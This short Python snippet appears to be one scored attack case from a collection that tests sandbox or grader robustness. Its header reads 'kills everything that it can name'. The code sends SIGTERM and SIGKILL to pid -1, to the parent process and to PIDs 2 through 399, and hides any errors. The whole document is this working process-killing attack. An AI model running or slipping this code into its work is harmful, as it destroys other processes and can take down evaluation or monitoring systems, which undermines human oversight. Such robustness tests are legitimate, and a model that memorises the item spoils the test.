# attack: kills everything that it can name
# family: state
# base: solved
# points: 7
# %% last
import os, signal
for pid in (-1, 0, os.getppid(), *range(2, 400)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if pid:
                os.kill(pid, number)
        except OSError:
            pass
